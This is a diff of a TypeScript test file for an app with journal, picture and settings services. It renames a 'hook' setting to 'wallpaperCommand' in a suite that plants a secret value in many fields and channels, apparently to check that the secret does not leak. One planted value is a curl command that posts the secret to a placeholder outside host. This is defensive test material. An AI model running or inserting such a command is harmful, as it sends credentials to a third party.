@@ -169,7 +169,7 @@ const plants: readonly (readonly [string, (rig: Rig) => void | Promise<void>])[]
     'the input and the answer of every command',
     (rig) => {
       const fields = { id: secret, title: secret, body: secret, kind: secret, date: secret };
-      for (const input of [secret, fields, { services: { own: fields }, hook: secret }])
+      for (const input of [secret, fields, { services: { own: fields }, wallpaperCommand: secret }])
         for (const channel of `journal.create journal.write journal.delete journal.restore journal.retry journal.publish
           journal.pause picture.setWallpaper picture.decide picture.check station.watch settings.change
           settings.setApiKey app.check app.pause ${secret}`.split(/\s+/)) {
@@ -186,7 +186,10 @@ const plants: readonly (readonly [string, (rig: Rig) => void | Promise<void>])[]
       change(rig, { services: { source: 'own', own, proxy: url } });
     },
   ],
-  ['the hook', (rig) => change(rig, { hook: `curl -d ${secret} https://x.example` })],
+  [
+    'the wallpaper command',
+    (rig) => change(rig, { wallpaperCommand: `curl -d ${secret} https://x.example` }),
+  ],
   [
     'words that hide pictures',
     (rig) => {
